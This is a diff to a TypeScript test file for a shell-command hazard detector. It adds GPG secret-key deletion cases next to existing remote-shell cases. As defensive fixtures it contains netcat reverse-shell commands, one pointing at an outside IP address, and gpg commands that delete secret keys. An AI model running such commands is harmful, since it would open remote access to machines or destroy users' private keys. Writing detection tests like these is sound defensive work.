@@ -33,7 +33,7 @@ describe('credential hunting outside the workspace', () => {
   ])('%s → %o', (line, want) => expect(hazards(extractCredentialHunt, line)).toEqual(want));
 });
 
-describe('remote shells and crontab removal', () => {
+describe('remote shells, crontab removal and private-key deletion', () => {
   it.each<[string, string[]]>([
     ['nc -e /bin/sh 198.51.100.7 9001', ['remote-shell 198.51.100.7']],
     ['nc -lvpe /bin/sh 4444', ['remote-shell']],
@@ -44,5 +44,9 @@ describe('remote shells and crontab removal', () => {
     ['nc -zv db 5432', []],
     ['socat TCP-LISTEN:8080,fork TCP:127.0.0.1:3000', []],
     ['crontab -l', []],
+    ['gpg --batch --yes --delete-secret-keys ABCDEF01', ['secret-key-delete']],
+    ['gpg2 --delete-secret-and-public-keys 0xABCDEF01', ['secret-key-delete']],
+    ['gpg --delete-keys ABCDEF01', []],
+    ['gpg --list-secret-keys', []],
   ])('%s → %o', (line, want) => expect(hazards(extractRemoteShell, line)).toEqual(want));
 });
